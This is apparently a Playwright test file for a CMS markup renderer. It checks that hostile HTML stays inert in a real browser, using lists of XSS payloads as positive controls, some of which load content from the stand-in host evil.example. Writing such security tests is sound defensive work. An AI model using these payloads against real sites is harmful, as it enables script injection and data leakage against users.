"""Hostile text in a real browser, with no Content-Security-Policy to help: nothing runs, whatever is done to it."""

import pytest
from playwright.sync_api import Browser

from cms.markup import render_many, resolve
from tests.cms.markup import hostile
from tests.cms.markup.executing import Tab, as_document, in_browser

pytestmark = pytest.mark.slow
LINKS = {"article:a": "id-a", "role:r": "id-r"}
EMPTY = {"/": as_document('<body><main id="text"></main></body>')}
# The browser and the hooks see each of these when it is put as it is.
ACTS_WHEN_PUT = (
    "<img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<b onmouseover=alert(1)>x</b>",
    "<mark onfocus=alert(1) tabindex=0>x</mark>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='background:url(//evil.example/b.png)'>x</p>",
    "<video src=//evil.example/v.webm autoplay></video>",
    "<svg><image href=//evil.example/i.png /></svg>",
    "<a href='data:text/html,x'>x</a>",
)
ACTS_WHEN_READ = (
    *ACTS_WHEN_PUT,
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<svg onload=alert(1)>",
    "<script>throw new Error('x')</script>",
    "<script>console.log('x')</script>",
    "<object data=//evil.example/o.html></object>",
)


def rendered() -> dict[str, str]:
    found = {}
    for label, text in hostile.LABELLED.items():
        (one,) = render_many([text], links=LINKS)
        found[label] = resolve(one.html, lambda entry_id: f"/{entry_id}/")
    return found


def tried_by_script(html: dict[str, str]) -> dict[str, list[str]]:
    def work(browser: Browser) -> dict[str, list[str]]:
        tab, found = Tab(browser, EMPTY), {}
        tab.open("/")
        for label, text in html.items():
            tab.put(text)
            found[label] = tab.provoke("#text *")
        return found

    return in_browser(work)


def tried_as_documents(html: dict[str, str]) -> dict[str, list[str]]:
    documents = {f"/{label.replace(' ', '-')}": as_document(f"<body><main>{text}") for label, text in html.items()}

    def work(browser: Browser) -> dict[str, list[str]]:
        tab, found = Tab(browser, documents), {}
        for path in documents:
            tab.open(path)
            found[path] = tab.provoke()
        return found

    return in_browser(work)


def loud(found: dict[str, list[str]]) -> dict[str, list[str]]:
    return {label: noticed for label, noticed in found.items() if noticed}


def test_the_browser_notices_what_acts() -> None:
    put = {f"put {number}": text for number, text in enumerate(ACTS_WHEN_PUT)}
    read = {f"read {number}": text for number, text in enumerate(ACTS_WHEN_READ)}
    assert loud(tried_by_script(put)).keys() == put.keys()
    assert len(loud(tried_as_documents(read))) == len(read)


def test_nothing_runs_of_hostile_text_that_a_script_puts_into_a_page() -> None:
    assert loud(tried_by_script(rendered())) == {}


def test_nothing_runs_of_hostile_text_that_a_page_is_made_with() -> None:
    assert loud(tried_as_documents(rendered())) == {}


def test_nothing_runs_of_all_hostile_text_on_one_page() -> None:
    assert loud(tried_as_documents({"all": "\n".join(rendered().values())})) == {}
